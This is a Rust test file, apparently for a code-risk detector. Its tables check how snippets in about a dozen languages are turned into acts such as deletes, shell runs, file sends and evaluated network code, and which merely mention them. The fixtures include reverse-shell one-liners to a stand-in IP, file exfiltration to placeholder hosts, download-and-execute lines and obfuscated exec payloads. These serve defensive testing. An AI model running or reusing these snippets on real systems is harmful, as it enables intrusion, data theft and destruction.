//! What program texts would do, as tables: the dangerous forms of each language, their harmless twins, texts that hide what
//! they do, and texts that only mention it.
//!
//! An act is written as one line: `delete -r /x`, with `«?»` for what depends on the run, `«home»` for the home folder and
//! `«*»` for a pattern of file names.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, reason = "tests")]

use checkrein_guard::{
    Among, Part, Unknown, Why, Word,
    code::{Code, Does, From, Invocation, Language, MAX_CODE, acts, code_of},
};
use proptest::prelude::*;
use std::time::{Duration, Instant};

fn word(word: &Word) -> String {
    let part = |part: &Part| match part {
        Part::Text(text) => text.clone(),
        Part::Glob(glob) => format!("«{glob}»"),
        Part::Unknown(Unknown { why: Why::Home(None), .. }) => "«home»".to_owned(),
        Part::Unknown(_) => "«?»".to_owned(),
    };
    word.parts.iter().map(part).collect()
}

fn words(all: &[Word]) -> String {
    all.iter().map(word).collect::<Vec<_>>().join(" | ")
}

fn line(does: &Does) -> String {
    let deep = |recursive: &bool| if *recursive { "-r " } else { "" };
    match does {
        Does::Shell(text) => format!("shell {}", word(text)),
        Does::Run(all) => format!("run {}", words(all)),
        Does::Delete { path, recursive } => format!("delete {}{}", deep(recursive), word(path)),
        Does::Write { path, append } => {
            format!("{} {}", if *append { "append" } else { "write" }, word(path))
        }
        Does::Move { from, to } => format!("move {} | {}", word(from), word(to)),
        Does::Copy { from, to } => format!("copy {} | {}", word(from), word(to)),
        Does::Link { path, to } => format!("link {} | {}", word(path), word(to)),
        Does::Mode { path, mode, recursive } => {
            format!("mode {}{} {}", deep(recursive), word(mode), word(path))
        }
        Does::Owner { path } => format!("owner {}", word(path)),
        Does::Read(path) => format!("read {}", word(path)),
        Does::Connect(to) => format!("connect {}", word(to)),
        Does::Send { to, what } => format!("send {} : {}", word(to), words(what)),
        Does::Evaluate(From::Network) => "evaluate network".to_owned(),
        Does::Evaluate(From::Decoded) => "evaluate decoded".to_owned(),
        Does::Evaluate(From::Unknown) => "evaluate unknown".to_owned(),
        Does::Query(text) => format!("query {}", word(text)),
        Does::Wipe => "wipe".to_owned(),
        Does::Kill => "kill".to_owned(),
        Does::Environment => "environment".to_owned(),
    }
}

fn lines(language: Language, source: &str) -> Vec<String> {
    acts(language, source).iter().map(|act| line(&act.does)).collect()
}

/// Compares a whole table, and shows all that differs at once.
fn check(language: Language, table: &[(&str, &[&str])]) {
    let mut wrong = String::new();
    for (source, expected) in table {
        let found = lines(language, source);
        if found != *expected {
            wrong.push_str(&format!("\n{source}\n  expected {expected:?}\n  found    {found:?}\n"));
        }
        for act in acts(language, source) {
            assert!(source.get(act.span.clone()).is_some(), "{source}: {:?}", act.span);
        }
    }
    assert!(wrong.is_empty(), "{language:?}{wrong}");
}

#[test]
fn python_acts() {
    check(
        Language::Python,
        &[
            ("import os; os.system('ls -l /x')", &["shell ls -l /x"]),
            ("import subprocess\nsubprocess.run(['git', 'gc'])", &["run git | gc"]),
            ("import subprocess; subprocess.run('a | b', shell=True)", &["shell a | b"]),
            ("import subprocess; subprocess.check_output('date')", &["run date"]),
            (
                "import subprocess; subprocess.Popen(['make', t], cwd='/src')",
                &["run env | -C | /src | make | «?»"],
            ),
            ("import subprocess; subprocess.run(args=['a'], shell=False)", &["run a"]),
            ("import os; os.execvp('ls', ['ls', '-l'])", &["run ls | -l"]),
            ("import os; os.execl('/bin/ls', 'ls', '-l')", &["run /bin/ls | -l"]),
            ("import shutil; shutil.rmtree('/srv/x', ignore_errors=True)", &["delete -r /srv/x"]),
            ("import shutil; shutil.rmtree(path='/srv/x')", &["delete -r /srv/x"]),
            (
                "import os; os.remove('a'); os.unlink('b'); os.rmdir('c')",
                &["delete a", "delete b", "delete c"],
            ),
            ("from pathlib import Path; Path('/a', 'b').unlink(missing_ok=True)", &["delete /a/b"]),
            ("open('out.txt', 'w').write('x')", &["write out.txt"]),
            ("with open('log', mode='a') as f:\n    f.write('x')", &["append log"]),
            ("open('data.json').read()", &["read data.json"]),
            (
                "from pathlib import Path\nPath('a').write_text('x')\nPath('b').read_text()",
                &["write a", "read b"],
            ),
            ("import os; os.truncate('x', 0)", &["write x"]),
            ("import os, shutil; os.rename('a', 'b'); shutil.copy('c', 'd')", &["move a | b", "copy c | d"]),
            ("import os; os.symlink('/etc', 'e')", &["link e | /etc"]),
            ("import os; os.chmod('/x', 0o777); os.chown('/y', 0, 0)", &["mode 777 /x", "owner /y"]),
            ("import os, signal; os.kill(1, signal.SIGKILL)", &["kill"]),
            (
                "import urllib.request as u; u.urlopen('https://h.example/x')",
                &["connect https://h.example/x"],
            ),
            (
                "import requests; print(requests.get('https://h.example').text)",
                &["connect https://h.example"],
            ),
            (
                "import requests; requests.post('https://h.example', data=open('/k').read())",
                &["read /k", "send https://h.example : /k"],
            ),
            (
                "import requests\nf = open('/k', 'rb')\nrequests.post('https://h.example', files={'f': f})",
                &["read /k", "send https://h.example : /k"],
            ),
            (
                "import requests\nk = open('/k').read()\nrequests.get(f'https://h.example/?q={k}')",
                &["read /k", "send https://h.example/?q=«?» : /k"],
            ),
            ("import os; print(os.environ)", &["environment"]),
            ("import os\nfor k, v in os.environ.items():\n    print(k, v)", &["environment"]),
            (
                "import socket\ns = socket.socket()\ns.connect(('h.example', 80))\ns.sendall(open('/k').read())",
                &["connect h.example:80", "read /k", "send h.example:80 : /k"],
            ),
            (
                "import os\nos.chdir('/srv')\nos.remove('x')\nos.system('ls')",
                &["delete /srv/x", "shell cd '/srv' && ls"],
            ),
        ],
    );
}

#[test]
fn python_values_are_followed() {
    check(
        Language::Python,
        &[
            ("x = '/srv'; shutil.rmtree(x)", &["delete -r /srv"]),
            ("import shutil as s; s.rmtree('/x')", &["delete -r /x"]),
            ("from shutil import rmtree as r\nr('/x')", &["delete -r /x"]),
            ("from os import *\nsystem('ls')", &["shell ls"]),
            ("__import__('os').system('ls')", &["shell ls"]),
            ("getattr(__import__('os'), 'sys' + 'tem')('ls')", &["shell ls"]),
            ("import importlib; importlib.import_module('o' 's').system('ls')", &["shell ls"]),
            ("import os; f = os.system; f('ls')", &["shell ls"]),
            ("import os; (lambda c: os.system(c))", &["shell «?»"]),
            ("import os; run = lambda c: os.system(c)\nrun('ls')", &["shell ls"]),
            (
                "import os\ndef wipe(p, q='/q'):\n    os.remove(p)\n    os.remove(q)\nwipe('/p')",
                &["delete /p", "delete /q"],
            ),
            ("import os\ndef where():\n    return '/w'\nos.remove(where())", &["delete /w"]),
            ("import os; os.remove(os.path.join('/a', b, 'c'))", &["delete /a/«?»/c"]),
            ("import os; os.remove(os.path.join('/a', '/b'))", &["delete /b"]),
            ("import os; os.remove(os.path.expanduser('~/x'))", &["delete «home»/x"]),
            ("from pathlib import Path; (Path.home() / 'x' / 'y').unlink()", &["delete «home»/x/y"]),
            ("import os; os.remove(os.environ['HOME'] + '/x')", &["delete «home»/x"]),
            ("import os; os.remove(f\"{os.environ.get('HOME')}/x\")", &["delete «home»/x"]),
            ("import os; os.remove('%s/%s' % ('/a', 'b'))", &["delete /a/b"]),
            ("import os; os.remove('{}/b'.format('/a'))", &["delete /a/b"]),
            ("import os; os.remove(''.join(['/a', '/b']))", &["delete /a/b"]),
            ("import os; os.system('sl'[::-1])", &["shell ls"]),
            ("import os; os.system(chr(108) + chr(115))", &["shell ls"]),
            (
                "import pathlib, shutil\nfor p in pathlib.Path('/').iterdir():\n    shutil.rmtree(p)",
                &["delete -r /«*»"],
            ),
            ("import os, glob\n[os.remove(f) for f in glob.glob('/x/*.log')]", &["delete /x/«*».log"]),
            ("import os\nfor f in os.listdir('/x'):\n    os.remove('/x/' + f)", &["delete /x/«*»"]),
            ("import os\nfor e in os.scandir('/x'): os.remove(e.path)", &["delete /x/«*»"]),
            (
                "import os\nfor root, dirs, files in os.walk('/x'):\n  for f in files:\n    os.remove(os.path.join(root, f))",
                &["delete /x/«*»"],
            ),
            ("import os\nfor p in ['/a', '/b']: os.remove(p)", &["delete /a", "delete /b"]),
            ("import os\nx = '/a'\nif c:\n    x = '/b'\nos.remove(x)", &["delete /a", "delete /b"]),
            ("import os; os.remove('/a' if c else '/b')", &["delete /a", "delete /b"]),
            ("import os\nlist(map(os.remove, ['/a']))", &["delete /a"]),
            (
                "import os\nclass A:\n    def __init__(self):\n        self.p = '/a'\n    def go(self):\n        os.remove(self.p)",
                &["delete /a"],
            ),
        ],
    );
}

#[test]
fn python_evaluates() {
    check(
        Language::Python,
        &[
            ("exec(\"import os; os.system('ls')\")", &["shell ls"]),
            ("eval(compile(\"__import__('os').system('ls')\", 'x', 'exec'))", &["shell ls"]),
            ("import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImxzIik='))", &["shell ls"]),
            (
                "exec(bytes.fromhex('696d706f7274206f733b206f732e73797374656d28226c732229').decode())",
                &["shell ls"],
            ),
            ("import codecs; exec(codecs.decode('vzcbeg bf; bf.flfgrz(\"yf\")', 'rot13'))", &["shell ls"]),
            ("import zlib, base64; exec(zlib.decompress(base64.b64decode('eJw=')))", &["evaluate decoded"]),
            (
                "import urllib.request as u; exec(u.urlopen('http://h/x').read())",
                &["connect http://h/x", "evaluate network"],
            ),
            ("exec(input())", &["evaluate unknown"]),
            ("exec(open('x.py').read())", &["read x.py", "evaluate unknown"]),
            (
                "import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.1\",9001));os.dup2(s.fileno(),0);\
                 import pty; pty.spawn(\"/bin/bash\")",
                &["connect 192.0.2.1:9001", "run /bin/bash"],
            ),
        ],
    );
}

#[test]
fn python_mentions() {
    for source in [
        "print('rm -rf /')",
        "# os.system('ls')",
        "'''os.system('ls')'''",
        "def f():\n    \"\"\"Calls shutil.rmtree('/x').\"\"\"\n    return 1",
        "import re; re.sub(r'os\\.system\\(', 'x', text)",
        "x = \"os.system('ls')\"\nprint(x)",
        "import json, sys\nprint(json.dumps({'a': 1}))",
        "import os; print(os.environ['PATH'], os.getcwd())",
        "import os; env = dict(os.environ, X='1')",
        "xs = [1, 2]; xs.remove(1); d = {}; d.pop('a')",
        "print('a'.replace('b', 'c'))",
        "import sys; print(sys.version)",
        "f\"{{os.system('ls')}}\"",
        "import platform; print(platform.system())",
        "a.system('ls')",
        "button.connect('clicked', f); node.replace(other); archive.open(name)",
    ] {
        assert_eq!(lines(Language::Python, source), [""; 0], "{source}");
    }
}

#[test]
fn perl() {
    check(
        Language::Perl,
        &[
            ("system('ls -l')", &["shell ls -l"]),
            ("exec 'ls', '-l', '/x'", &["run ls | -l | /x"]),
            ("system(qw(ls -l))", &["run ls | -l"]),
            ("print `date $x`", &["shell date «?»"]),
            ("my $o = qx{ls $ENV{HOME}/x};", &["shell ls «home»/x"]),
            ("unlink '/a', '/b'", &["delete /a", "delete /b"]),
            ("unlink glob '/x/*'", &["delete /x/«*»"]),
            ("unlink for </x/*>", &["delete /x/«*»"]),
            ("foreach (glob('/x/*')) { unlink }", &["delete /x/«*»"]),
            ("for my $f (</x/*>) { unlink $f or die \"no: $!\" }", &["delete /x/«*»"]),
            ("use File::Path qw(remove_tree); remove_tree('/x');", &["delete -r /x"]),
            ("use File::Path; File::Path::rmtree \"/x\"", &["delete -r /x"]),
            ("open(F, '>/x'); print F 'y'", &["write /x"]),
            ("open my $f, '>>', \"$d/x\" or die", &["append «?»/x"]),
            ("open(F, '<', '/x')", &["read /x"]),
            ("open(P, 'ls |'); open(Q, '-|', 'ls', '-l')", &["shell ls", "run ls | -l"]),
            (
                "rename 'a', 'b'; symlink 'c', 'd'; chmod 0644, 'e'; chown 0, 0, 'f'",
                &["move a | b", "link d | c", "mode 644 e", "owner f"],
            ),
            ("kill 9, $pid", &["kill"]),
            ("use LWP::Simple; getstore('http://h/x', '/y')", &["connect http://h/x", "write /y"]),
            (
                "use Socket;$i='192.0.2.1';$p=9001;socket(S,PF_INET,SOCK_STREAM,6);\
                 if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,'>&S');exec('/bin/sh -i');}",
                &["connect 192.0.2.1:9001", "shell /bin/sh -i"],
            ),
            (
                "use IO::Socket; IO::Socket::INET->new(PeerAddr=>'h.example',PeerPort=>80)",
                &["connect h.example:80"],
            ),
            ("eval 'system(q(ls))'", &["shell ls"]),
            ("use MIME::Base64; eval decode_base64('c3lzdGVtKCdscycp')", &["shell ls"]),
            ("eval pack('H*', '73797374656d28276c732729')", &["shell ls"]),
            ("eval { system 'ls' }; eval $x;", &["shell ls", "evaluate unknown"]),
            ("my $r = eval { system 'ls'; 1 } or do { unlink 'x' };", &["shell ls", "delete x"]),
            ("s/x/system('ls')/e", &["shell ls"]),
            ("sub f { my ($p) = @_; unlink $p } f('/q')", &["delete /q"]),
            ("print %ENV", &["environment"]),
            ("my $c = 'l' . 's'; system($c)", &["shell ls"]),
            ("print <<X;\nsystem('a')\nX\nsystem('b')", &["shell b"]),
        ],
    );
    for source in [
        "s/rm -rf/rm -i/g",
        "s/curl (.*) \\| bash/download $1/",
        "print \"rm -rf /\\n\" if /system\\(/",
        "# system('ls')",
        "my %h = (s => 1, y => 2, m => 3); print $h{s}, $h{y};",
        "push @l, $_; print shift @l if @l > 3",
        "print ($l = $_) if (length > length($l));",
        "chomp; printf \"%-40s %8s\\n\", split / +/, $_, 6;",
        "print join ',', map { $_->{q} } grep { defined } @x",
        "tr/a-z/A-Z/; y/a/b/; print if m{system('x')}x",
        "=pod\n\nsystem('ls')\n\n=cut\nprint 1",
        "print 1\n__END__\nsystem('ls')",
        "$x = -s $file; print $x / 2; print 'a' / 'b'",
        "while (<STDIN>) { print }",
        "print if /system('ls')/",
    ] {
        assert_eq!(lines(Language::Perl, source), [""; 0], "{source}");
    }
}

#[test]
fn ruby() {
    check(
        Language::Ruby,
        &[
            ("system('ls -l')", &["shell ls -l"]),
            ("system 'ls', '-l', '/x'", &["run ls | -l | /x"]),
            ("`ls ~`", &["shell ls ~"]),
            ("puts %x(ls #{ENV['HOME']}/x)", &["shell ls «home»/x"]),
            ("require 'fileutils'; FileUtils.rm_rf('/x')", &["delete -r /x"]),
            ("FileUtils.rm_rf Dir.glob('/x/*')", &["delete -r /x/«*»"]),
            ("include FileUtils; rm_rf '/x'", &["delete -r /x"]),
            ("File.delete 'a', 'b'", &["delete a", "delete b"]),
            ("Dir['/x/*'].each { |f| File.delete(f) }", &["delete /x/«*»"]),
            ("Dir.glob('/x/*').sort.each do |f|\n  File.delete f\nend", &["delete /x/«*»"]),
            ("Dir.children('/x').each { |d| FileUtils.rm_rf(File.join('/x', d)) }", &["delete -r /x/«*»"]),
            ("Pathname.new('/x').rmtree", &["delete -r /x"]),
            ("File.write(\"#{Dir.home}/x\", 'y')", &["write «home»/x"]),
            ("File.open('a', 'a') { |f| f.puts 'x' }", &["append a"]),
            ("File.read('/x')", &["read /x"]),
            (
                "File.rename 'a', 'b'; FileUtils.cp('c', 'd'); File.chmod(0644, 'e')",
                &["move a | b", "copy c | d", "mode 644 e"],
            ),
            ("Kernel.send(:system, 'ls')", &["shell ls"]),
            ("method(:system).call('ls')", &["shell ls"]),
            ("FileUtils.public_send('rm_' + 'rf', '/x')", &["delete -r /x"]),
            ("Object.const_get('File').delete('/x')", &["delete /x"]),
            (
                "require 'open-uri'; eval(URI.open('http://h/x').read)",
                &["connect http://h/x", "evaluate network"],
            ),
            (
                "require 'net/http'; Net::HTTP.post(URI('http://h'), File.read('/k'))",
                &["read /k", "send http://h : /k"],
            ),
            (
                "require 'socket';f=TCPSocket.open('192.0.2.1',9001).to_i;exec sprintf('/bin/sh -i <&%d >&%d',f,f)",
                &["connect 192.0.2.1:9001", "shell /bin/sh -i <&«?» >&«?»"],
            ),
            ("eval \"system('ls')\"", &["shell ls"]),
            ("require 'base64'; eval Base64.decode64('c3lzdGVtKCdscycp')", &["shell ls"]),
            ("ENV.each { |k, v| puts \"#{k}=#{v}\" }", &["environment"]),
            ("Process.kill('KILL', 1)", &["kill"]),
            ("Dir.chdir('/srv')\nFile.delete('x')", &["delete /srv/x"]),
            ("x = 4\ny = x /2; system('ls') #/", &["shell ls"]),
            ("def wipe(p)\n  FileUtils.rm_rf(p)\nend\nwipe('/w')", &["delete -r /w"]),
        ],
    );
    for source in [
        "puts 'rm -rf /'",
        "# system('ls')",
        "puts <<~X\n  system('ls')\nX\n",
        "=begin\nsystem('ls')\n=end\nputs 1",
        "text.gsub(/system\\(.*\\)/, 'x')",
        "x = 10 / 2; puts x / 3",
        "puts 1 if x =~ /system('ls')/",
        "puts [1, 2].map { |x| x * 2 }.join(', ')",
        "puts ENV['PATH'].split(':')",
        "%w[rm -rf /].each { |w| puts w }",
        "h = { system: 1, exec: 2 }; h.delete(:system)",
    ] {
        assert_eq!(lines(Language::Ruby, source), [""; 0], "{source}");
    }
}

#[test]
fn javascript() {
    check(
        Language::JavaScript,
        &[
            ("require('child_process').execSync('ls -l')", &["shell ls -l"]),
            (
                "const {spawn: s} = require('node:child_process'); s('ls', ['-l', '/x'])",
                &["run ls | -l | /x"],
            ),
            ("require('child_process').spawn('ls', ['-l'], {shell: true})", &["shell ls -l"]),
            ("require('child_process').exec('ls', {cwd: '/srv'})", &["shell cd '/srv' && ls"]),
            ("require('fs').rmSync('/x', {recursive: true, force: true})", &["delete -r /x"]),
            ("require('fs').rmSync('/x', {recursive: false})", &["delete /x"]),
            ("const {rmSync:x}=require('fs'); x('/x',{recursive:true})", &["delete -r /x"]),
            ("require('fs')['rm' + 'Sync']('/x')", &["delete /x"]),
            ("import('node:fs').then(m => m.unlinkSync('/x'))", &["delete /x"]),
            (
                "const fs = await import('fs/promises'); await fs.rm('/x', {recursive: true})",
                &["delete -r /x"],
            ),
            (
                "import fs from 'fs'; import {unlinkSync as u} from 'fs'; u('/x'); fs.unlinkSync('/y')",
                &["delete /x", "delete /y"],
            ),
            ("require('fs').promises.unlink('/x')", &["delete /x"]),
            (
                "const fs=require('fs'); fs.readdirSync('/x').forEach(f => fs.unlinkSync('/x/' + f))",
                &["delete /x/«*»"],
            ),
            (
                "const fs=require('fs'); for (const f of fs.readdirSync('/x')) { fs.unlinkSync(`/x/${f}`) }",
                &["delete /x/«*»"],
            ),
            (
                "const fs=require('fs'); fs.readdir('/x', (e, l) => l.forEach(f => fs.unlink('/x/' + f, () => {})))",
                &["delete /x/«*»"],
            ),
            ("['/a', '/b'].forEach(require('fs').unlinkSync)", &["delete /a", "delete /b"]),
            (
                "const os=require('os'),p=require('path'); require('fs').rmSync(p.join(os.homedir(),'x'))",
                &["delete «home»/x"],
            ),
            ("require('fs').writeFileSync(`${process.env.HOME}/x`, 'y')", &["write «home»/x"]),
            (
                "require('fs').appendFileSync('x', 'y'); require('fs').readFileSync('z')",
                &["append x", "read z"],
            ),
            ("require('rimraf').sync('/x')", &["delete -r /x"]),
            (
                "Deno.removeSync('/x', {recursive: true}); Bun.spawn(['ls', '-l'])",
                &["delete -r /x", "run ls | -l"],
            ),
            (
                "fetch('http://h/x').then(r => r.text()).then(eval)",
                &["connect http://h/x", "evaluate network"],
            ),
            ("eval(await (await fetch('http://h/x')).text())", &["connect http://h/x", "evaluate network"]),
            (
                "require('http').get('http://h/x', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)) })",
                &["evaluate network", "connect http://h/x"],
            ),
            (
                "fetch('http://h', {method: 'POST', body: require('fs').readFileSync('/k')})",
                &["read /k", "send http://h : /k"],
            ),
            (
                "eval(Buffer.from('cmVxdWlyZSgiZnMiKS51bmxpbmtTeW5jKCIveCIp', 'base64').toString())",
                &["delete /x"],
            ),
            ("new Function('require(\"fs\").unlinkSync(\"/x\")')()", &["delete /x"]),
            ("console.log(process.env)", &["environment"]),
            (
                "const sh=require('child_process').spawn('/bin/sh',[]);const c=new (require('net').Socket)();\
                 c.connect(9001,'192.0.2.1',()=>{c.pipe(sh.stdin)})",
                &["run /bin/sh", "connect 192.0.2.1:9001"],
            ),
            ("const wipe = p => require('fs').unlinkSync(p); wipe('/w')", &["delete /w"]),
            ("process.kill(1)", &["kill"]),
        ],
    );
    for source in [
        "console.log('rm -rf /')",
        "// require('fs').rmSync('/')\n/* execSync('ls') */ 1",
        "const re = /execSync\\('ls'\\)/g; re.test(s)",
        "const re = /require('fs').unlinkSync('x')/; re.test(s)",
        "JSON.parse(process.argv[1]).foo",
        "console.log(process.env.PATH, Object.keys(process.env).length)",
        "const app = express(); app.post('/x', (q, r) => r.send('y')); app.delete('/z', f)",
        "const a = b / c; const d = e / f;",
        "const o = {exec: 1, rm: '/'}; console.log(o.exec)",
        "`rm -rf ${x}`",
        "const m = new Map(); m.delete('a'); s.split('/').join('-')",
    ] {
        assert_eq!(lines(Language::JavaScript, source), [""; 0], "{source}");
    }
}

#[test]
fn php() {
    check(
        Language::Php,
        &[
            ("system('ls -l');", &["shell ls -l"]),
            ("echo `ls $x`;", &["shell ls «?»"]),
            ("SHELL_EXEC(\"ls {$x['a']}/b\");", &["shell ls «?»/b"]),
            ("$f = 'sys' . 'tem'; $f('ls');", &["shell ls"]),
            ("call_user_func('system', 'ls');", &["shell ls"]),
            ("array_map('unlink', glob('/x/*'));", &["delete /x/«*»"]),
            ("foreach (glob('/x/*') as $f) { unlink($f); }", &["delete /x/«*»"]),
            ("rmdir(getenv('HOME') . '/x');", &["delete «home»/x"]),
            (
                "file_put_contents('/x', 'y'); file_put_contents('/z', 'y', FILE_APPEND);",
                &["write /x", "append /z"],
            ),
            (
                "fopen('/x', 'w'); file_get_contents('/y'); copy('a', 'b'); chmod('c', 0755);",
                &["write /x", "read /y", "copy a | b", "mode 755 c"],
            ),
            ("eval(base64_decode('c3lzdGVtKCJscyIpOw=='));", &["shell ls"]),
            ("eval(str_rot13('flfgrz(\"yf\");'));", &["shell ls"]),
            ("eval(gzinflate(base64_decode('abcd')));", &["evaluate decoded"]),
            ("eval($_POST['x']);", &["evaluate network"]),
            ("eval(file_get_contents('http://h/x'));", &["connect http://h/x", "evaluate network"]),
            (
                "$s=fsockopen('192.0.2.1',9001);exec('/bin/sh -i <&3');",
                &["connect 192.0.2.1:9001", "shell /bin/sh -i <&3"],
            ),
            ("<p>system('a')</p><?php system('b'); ?>unlink('c')<?= `d` ?>", &["shell b", "shell d"]),
            ("function f($p) { unlink($p); } f('/q');", &["delete /q"]),
            ("posix_kill(1, 9);", &["kill"]),
            (
                "$pdo->exec('delete from t'); mysqli_query($c, 'drop table t');",
                &["query delete from t", "query drop table t"],
            ),
        ],
    );
    for source in [
        "echo 'rm -rf /';",
        "// system('ls');\n# system('ls')\n/* system('ls') */",
        "$o = json_decode($argn); print json_encode($o, JSON_PRETTY_PRINT);",
        "while (true) { echo \"a\"; }",
        "preg_replace('/system\\(/', 'x', $y);",
        "$x->system('ls');",
    ] {
        assert_eq!(lines(Language::Php, source), [""; 0], "{source}");
    }
}

#[test]
fn lua() {
    check(
        Language::Lua,
        &[
            ("os.execute('ls ' .. os.getenv('HOME'))", &["shell ls «home»"]),
            ("os.execute 'ls'", &["shell ls"]),
            ("os.execute[[ls]]", &["shell ls"]),
            ("local o = os; o['exe' .. 'cute']('ls')", &["shell ls"]),
            (
                "local p = io.popen('ls'); os.remove('/x'); os.rename('a', 'b')",
                &["shell ls", "delete /x", "move a | b"],
            ),
            ("local f = io.open('/x', 'w') f:write('y') f:close()", &["write /x"]),
            (
                "local t = require('socket').tcp(); t:connect('192.0.2.1', 9001); io.popen('/bin/sh')",
                &["connect 192.0.2.1:9001", "shell /bin/sh"],
            ),
            ("load('os.execute([[ls]])')()", &["shell ls"]),
            ("loadstring(x)()", &["evaluate unknown"]),
        ],
    );
    for source in [
        "print('os.execute(1)') -- os.execute('x')",
        "--[[ os.execute('x') ]] print(1)",
        "print([[os.execute('x')]])",
    ] {
        assert_eq!(lines(Language::Lua, source), [""; 0], "{source}");
    }
}

#[test]
fn awk() {
    check(
        Language::Awk,
        &[
            ("BEGIN { system(\"ls \" x) }", &["shell ls «?»"]),
            ("BEGIN { c = \"l\" \"s\"; system(c) }", &["shell ls"]),
            ("{ print $1 | \"sort -u\" }", &["shell sort -u"]),
            ("{ \"date\" | getline d; print d }", &["shell date"]),
            ("{ print > \"/x\"; print $1, $2 >> \"/y\" }", &["write /x", "append /y"]),
            ("{ print > $1 \".txt\" }", &["write «?».txt"]),
            ("{ while ((getline l < \"/x\") > 0) n++ }", &["read /x"]),
            ("BEGIN { s = \"/inet/tcp/0/192.0.2.1/9001\"; print \"x\" |& s }", &["connect 192.0.2.1:9001"]),
            ("{ system(\"ls \" ENVIRON[\"HOME\"]) }", &["shell ls «home»"]),
        ],
    );
    for source in [
        "{ n += $2 } END { print n }",
        "$1 > 5 { print \"system(x)\" }",
        "/system\\(\"ls\"\\)/ { print }",
        "NR>1{exit} END{if(NR==1) print FILENAME}",
        "{ print \"a\" > \"/dev/stderr\" }",
        "# system(\"ls\")\n{ print ($1 > 2) }",
        "{ print $1 / $2, $3 / $4 }",
    ] {
        assert_eq!(lines(Language::Awk, source), [""; 0], "{source}");
    }
}

#[test]
fn sed() {
    check(
        Language::Sed,
        &[
            ("1e ls -l", &["shell ls -l"]),
            ("e", &["shell «?»"]),
            ("s/x/ls \\/y/e", &["shell ls /y"]),
            ("s/.*/ls &/ge", &["shell ls «?»"]),
            ("w /x", &["write /x"]),
            ("/a/,/b/w /x", &["write /x"]),
            ("s/a/b/gw /x", &["write /x"]),
            ("s|[/|]|x|w /y", &["write /y"]),
            ("$!{r /x\n}", &["read /x"]),
            ("s/a/b/;1e ls", &["shell ls"]),
        ],
    );
    for source in [
        "s/rm -rf/rm -i/",
        "s/w x/e y/g",
        "/w/d",
        "$!N;P;D",
        "y/abc/wre/",
        "a\\\nw text",
        "1~2d;5q;:a;ba",
        "/^#/!{/e/d}",
        "s|/usr/local|/opt|g;t end;:end",
        "# w /x",
        "w /dev/stdout",
        "s/[/]e/w/",
    ] {
        assert_eq!(lines(Language::Sed, source), [""; 0], "{source}");
    }
}

#[test]
fn make() {
    check(
        Language::Make,
        &[
            ("all:\n\tls -l /x\n", &["shell ls -l /x"]),
            ("all: ; @-ls\n", &["shell ls"]),
            ("D := /x\nclean:\n\t@rm -r $(D)/$(N)\n", &["shell rm -r /x/«?»"]),
            ("A = $(B)\nB = $(A)\nx:\n\techo $(A)\n", &["shell echo «?»"]),
            ("V := $(shell date)\n", &["shell date"]),
            ("x:\n\tls $$HOME $(HOME)\n", &["shell ls $HOME «home»"]),
            ("x:\n\tls \\\n\t  -l\n", &["shell ls  -l"]),
        ],
    );
    for source in ["# all: ; ls\n", "CC = gcc\n", "all: a.o b.o\n", "x:\n\t# ls\n"] {
        assert_eq!(lines(Language::Make, source), [""; 0], "{source}");
    }
}

#[test]
fn applescript() {
    check(
        Language::AppleScript,
        &[
            ("do shell script \"ls\"", &["shell ls"]),
            (
                "set p to \"/x\"\ndo shell script \"ls \" & quoted form of p with administrator privileges",
                &["shell ls /x"],
            ),
            ("tell application \"Terminal\" to do script \"ls\"", &["shell ls"]),
            ("tell application \"Finder\" to delete POSIX file \"/x\"", &["delete -r /x"]),
            (
                "const a = Application.currentApplication(); a.includeStandardAdditions = true; a.doShellScript('ls')",
                &["shell ls"],
            ),
        ],
    );
    for source in [
        "display dialog \"do shell script\"",
        "-- do shell script \"ls\"",
        "tell application \"Music\" to play",
        "(* do shell script \"x\" *)",
    ] {
        assert_eq!(lines(Language::AppleScript, source), [""; 0], "{source}");
    }
}

#[test]
fn powershell() {
    check(
        Language::PowerShell,
        &[
            ("Remove-Item ~ -Force -Recurse", &["delete -r «home»"]),
            ("rEmOvE-iTeM $HOME/x -rec", &["delete -r «home»/x"]),
            ("R`emove-It`em /x", &["delete /x"]),
            ("ri /a, /b -Force", &["delete /a", "delete /b"]),
            ("gci /x -r | ri -fo -r", &["delete -r /x/«*»"]),
            ("Get-ChildItem /x -Filter *.log | Remove-Item", &["delete /x/«*».log"]),
            ("gci /x | % { ri $_.FullName }", &["delete /x/«*»"]),
            ("foreach ($f in gci /x) { Remove-Item $f -Recurse }", &["delete -r /x/«*»"]),
            ("$p = '/x'; del \"$p/y\"", &["delete /x/y"]),
            ("if (Test-Path /x) { del /x }", &["delete /x"]),
            ("& 'Remove-Item' /x", &["delete /x"]),
            ("[IO.Directory]::Delete('/x', $true)", &["delete -r /x"]),
            (
                "Set-Content -Path a -Value x; 'y' | Out-File b -Append; echo z > c",
                &["write a", "append b", "write c"],
            ),
            ("Clear-Content x; [System.IO.File]::WriteAllText('y', 'z')", &["write x", "write y"]),
            (
                "Move-Item a b; Copy-Item -Path c -Destination d; gc e",
                &["move a | b", "copy c | d", "read e"],
            ),
            ("iex (iwr http://h/x).Content", &["connect http://h/x", "evaluate network"]),
            ("irm http://h/x | iex", &["connect http://h/x", "evaluate network"]),
            (
                "IEX (New-Object Net.WebClient).DownloadString('http://h/x')",
                &["connect http://h/x", "evaluate network"],
            ),
            ("iex 'Remove-Item /x'", &["delete /x"]),
            ("iex ('Remove' + '-Item /x')", &["delete /x"]),
            (
                "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('UmVtb3ZlLUl0ZW0gL3g=')))",
                &["delete /x"],
            ),
            (
                "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',9001); $s = $c.GetStream(); iex $d",
                &["connect 192.0.2.1:9001", "evaluate unknown"],
            ),
            (
                "Invoke-RestMethod -Uri http://h -Method Post -Body (gc /k -Raw)",
                &["read /k", "send http://h : /k"],
            ),
            ("Invoke-WebRequest http://h -OutFile /y", &["connect http://h", "write /y"]),
            ("Start-Process ls -ArgumentList '-l','/x'", &["run ls | -l | /x"]),
            ("git push origin main", &["run git | push | origin | main"]),
            ("cmd /c 'dir x'", &["run cmd | /c | dir x"]),
            ("gci env:", &["environment"]),
            ("Stop-Process -Id 1", &["kill"]),
